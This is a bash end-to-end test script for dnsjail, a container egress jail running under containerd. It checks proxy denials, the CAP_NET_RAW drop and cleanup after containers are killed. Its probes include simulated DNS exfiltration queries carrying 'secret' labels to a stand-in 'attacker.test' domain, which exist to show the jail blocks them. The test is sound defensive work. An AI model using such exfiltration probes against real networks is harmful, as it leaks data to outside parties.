#!/bin/bash
# containerd.sh: dnsjail under a real containerd (Debian's 1.6), `ctr run` with dnsjail-runtime
# as the runc binary (what `dnsjail setup containerd`'s BinaryName does), on the private
# containerd of tests/e2e/lib/engines.sh, each container in a namespace of the test world.
#   - control (plain runc): every probe of world.sh's battery reaches the canary;
#   - jailed through the wrapper (drop-cap-net-raw = true: containerd's default spec grants
#     CAP_NET_RAW): the battery's jailed checks, and nothing left after exit;
#   - HTTP with io.dnsjail.allow=allowed.test (annotations reach the hook under containerd): the
#     site is reached, a denied host gets 403 and nothing leaves; without the jail (control) the
#     same request reaches the canary;
#   - the wrapper without drop-cap-net-raw: refused, the error names the key, nothing ran;
#   - a detached container, killed and removed with ctr: its daemons and table go with it.
# shellcheck source-path=SCRIPTDIR source=world.sh
. "$(dirname "$0")/world.sh"
# shellcheck source=tests/e2e/lib/engines.sh
. "$W_E2E_DIR/lib/engines.sh"
world_require dnsmasq dig nft
engines_require
world_require_build
[ -x "$top_builddir/runtime/dnsjail-runtime" ] ||
    tap_skip_all "not built: $top_builddir/runtime/dnsjail-runtime"

SITE_IP=203.0.113.80
TAG=$(world_random)
world_dns_answer allowed.test "$SITE_IP"
world_up
world_site site "$SITE_IP" "site-$TAG" || tap_bail "the site did not start"
world_dnsjail_conf --file "$W_TMP/keepraw.conf" || tap_bail "cannot write a configuration"
world_dnsjail_conf "drop-cap-net-raw = true" || tap_bail "cannot write the configuration"
# shellcheck disable=SC2119 # containerd only: no Docker runtimes
engines_up
E_CTR_WRAPPER=$E_DIR/dnsjail-runtime
engines_wrapper_script "$E_CTR_WRAPPER" "$W_CONF" || tap_bail "cannot write the wrapper script"
engines_wrapper_script "$E_DIR/dnsjail-runtime-keepraw" "$W_TMP/keepraw.conf" ||
    tap_bail "cannot write the wrapper script"

tap_plan 87

world_battery_control containerd
world_battery_jailed containerd

# ---- HTTP: the allowed site and a denied host, with and without the jail --------------------
# http-probe.sh TAG [probe.py probes]: one DNS probe, then HTTP to allowed.test and denied-TAG.test.
http_run() { # LABEL JAIL ANNOTATIONS TAG
    world_ctns "$1" || tap_bail "cannot make a namespace"
    run_container containerd "$W_ID-$1" "$W_NS" "$2" "$3" -- /http-probe.sh "$4" \
        "dns|dns_resolv|secret-$4-h.attacker.test|A|-|udp"
}
t=$(world_random)
http_run ctrhttpctl no "" "$t"
W="containerd control, HTTP"
tap_check "$W: the site answered http://allowed.test/" site_body_is "site-$TAG" || _show_run
tap_check "$W: the request to a denied host reached the canary" canary_saw_net "path-$t"
t=$(world_random)
http_run ctrhttp yes "io.dnsjail.allow=allowed.test" "$t"
NS=$W_NS
W="containerd jailed, io.dnsjail.allow=allowed.test"
tap_check "$W: the container ran (exit 0)" test "$RUN_RC" -eq 0 || _show_run
tap_check "$W: DNS answered 6.6.6.6 by the stub" probe_is "$RUN_OUT" dns_resolv answers "A:6.6.6.6"
tap_check "$W: the allowed site was reached through the proxy" site_body_is "site-$TAG" || _show_run
tap_check "$W: a denied host gets 403 from the proxy" probe_is "$RUN_OUT" http_denied code 403 ||
    _show_run
tap_check "$W: the container has no CAP_NET_RAW (drop-cap-net-raw)" lacks_cap_net_raw
tap_check "$W: the canary saw nothing of this run" canary_none "$t"
assert_gone "$W" "$RUN_CID" "$NS"

# ---- CAP_NET_RAW kept (no drop-cap-net-raw): refused ---------------------------------------
t=$(world_random)
world_ctns ctrraw || tap_bail "cannot make a namespace"
E_CTR_WRAPPER=$E_DIR/dnsjail-runtime-keepraw
run_container containerd "$W_ID-ctr-raw" "$W_NS" yes "io.dnsjail.enable=true" -- \
    /usr/bin/python3 /probe.py "dns|dns_resolv|secret-$t-raw.attacker.test|A|-|udp"
E_CTR_WRAPPER=$E_DIR/dnsjail-runtime
W="containerd with CAP_NET_RAW"
tap_check "$W: ctr run fails" test "$RUN_RC" -ne 0
tap_check "$W: nothing ran" eval '! grep -q "^probe-done" "$RUN_OUT"'
tap_check "$W: the error names the key to set" grep -q "drop-cap-net-raw" "$RUN_ERR" || _show_run
tap_check "$W: the canary saw nothing of it" canary_none "secret-$t"
assert_gone "$W" "$RUN_CID" "$W_NS"

# ---- a detached container, killed and removed ----------------------------------------------
world_ctns ctrkill || tap_bail "cannot make a namespace"
NS=$W_NS
ID=$W_ID-ctr-kill
W="detached, ctr task kill"
rootfs=$W_TMP/bundles/$ID-ctr-rootfs
world_rootfs "$rootfs" >/dev/null || tap_bail "cannot make a rootfs"
W_CONTAINERS+=("containerd $ID")
engines_ctr run -d --rootfs --with-ns "network:$NS" --env PATH=/usr/bin:/bin \
    --annotation io.dnsjail.enable=true --runc-binary "$E_CTR_WRAPPER" \
    --mount type=bind,src=/usr,dst=/usr,options=rbind:ro "$rootfs" "$ID" /usr/bin/sleep 600 \
    >"$W_TMP/out/$ID.out" 2>&1
tap_check "$W: the container runs" wait_until 10 eval 'engines_ctr task ls | grep -q "^$ID .*RUNNING"' ||
    tap_diag_file "$W_TMP/out/$ID.out"
tap_check "$W: its stub and proxy run" wait_until 5 eval '[ "$(daemons_for "$ID" | wc -l)" = 2 ]'
tap_check "$W: its namespace has table inet dnsjail" nft_table_in "$NS"
tap_check "$W: ctr task kill, task delete, container delete" \
    eval 'engines_ctr task kill -s SIGKILL "$ID" && wait_until 10 eval "! engines_ctr task ls | grep -q \"^$ID .*RUNNING\"" &&
        engines_ctr task delete "$ID" >/dev/null && engines_ctr container delete "$ID"'
assert_gone "$W" "$ID" "$NS"

tap_check "every engine stops and leaves nothing (no daemon, shim, namespace)" \
    eval 'engines_stop && world_stop_spares && wait_until 10 engines_gone'
